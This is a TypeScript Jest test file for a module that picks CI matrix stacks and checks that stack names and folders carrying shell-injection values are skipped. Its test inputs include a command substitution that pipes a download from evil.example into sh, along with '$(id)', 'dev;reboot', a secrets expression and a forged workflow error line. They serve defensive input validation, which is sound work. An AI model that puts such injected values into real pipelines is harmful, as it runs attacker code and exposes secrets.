import { describe, expect, it } from '@jest/globals';
import { affectedStacks, matrixSelection, skippedStacksWarning, type StackEntry } from '../../../src/operation/detect.js';

const entry = (stack: string, workDir = 'infra/api', project = 'api'): StackEntry => ({ project, stack, 'work-dir': workDir });

describe('matrixSelection', () => {
  it('keeps the stacks whose name the stack input accepts, in folders of the same characters', () => {
    const safe = [entry('dev'), entry('prod.eu-1'), entry('_x', 'infra/web_2/v1.0'), entry('dev', '.', 'root')];
    expect(matrixSelection(safe)).toEqual({ usable: safe, skipped: [] });
  });

  it.each([
    ['a command substitution', '$(curl -s https://evil.example/x|sh)'],
    ['backticks', 'dev`id`'],
    ['a semicolon', 'dev;reboot'],
    ['a space', 'dev prod'],
    ['a quote', "dev'"],
    ['a newline', 'dev\n::error::forged'],
    ['a leading dash, which a command line takes for a flag', '-rf'],
    ['an expression', '${{ secrets.TOKEN }}'],
    ['a Unicode look-alike', 'dеv'],
    ['more than 100 characters', 'a'.repeat(101)],
  ])('skips a stack name with %s', (_what, stack) => {
    expect(matrixSelection([entry('dev'), entry(stack)])).toEqual({ usable: [entry('dev')], skipped: [entry(stack)] });
  });

  it.each([
    ['a command substitution', 'infra/a$(id)'],
    ['a space', 'infra/my app'],
    ['a leading dash', 'infra/-x/api'],
    ['a newline', 'infra/a\nb'],
    ['a backslash', 'infra/a\\b'],
  ])('skips a folder with %s in any segment', (_what, workDir) => {
    expect(matrixSelection([entry('dev', workDir), entry('dev')])).toEqual({ usable: [entry('dev')], skipped: [entry('dev', workDir)] });
  });
});

describe('skippedStacksWarning', () => {
  it('says how many were skipped, why and what to do, with each name JSON-escaped on one line', () => {
    const warning = skippedStacksWarning([entry('$(touch pwned)'), entry('dev', 'infra/a\n::error::x')]);
    expect(warning).not.toContain('\n');
    expect(warning).toBe(
      `Skipped 2 stacks that a workflow step could not safely use from 'matrix' (its value lands in run: scripts as written): ` +
        `stack "$(touch pwned)" in "infra/api", stack "dev" in "infra/a\\n::error::x"; ` +
        "name stacks and their folders with letters, digits, '-', '_' and '.' only, not starting with '-'.",
    );
  });

  it('lists three and counts the rest, each shortened', () => {
    const warning = skippedStacksWarning(['a;1', 'a;2', 'a;3', 'a;4', `${'x'.repeat(200)};`].map((s) => entry(s)));
    expect(warning).toMatch(/^Skipped 5 stacks /);
    expect(warning).toContain('stack "a;1" in "infra/api", stack "a;2" in "infra/api", stack "a;3" in "infra/api" and 2 more;');
    expect(skippedStacksWarning([entry('y'.repeat(200))])).toContain(`stack "${'y'.repeat(80)}…" in "infra/api";`);
    expect(skippedStacksWarning([entry('a;1')])).toMatch(/^Skipped 1 stack that /);
  });
});

describe('affectedStacks', () => {
  it('takes a stack file change for its own stack, any other change in the folder for all', () => {
    const stacks = [entry('dev'), entry('prod'), entry('dev', 'infra/web', 'web')];
    expect(affectedStacks(stacks, ['infra/api/Pulumi.prod.yaml'])).toEqual([entry('prod')]);
    expect(affectedStacks(stacks, ['infra/web/index.ts', 'README.md'])).toEqual([entry('dev', 'infra/web', 'web')]);
  });
});
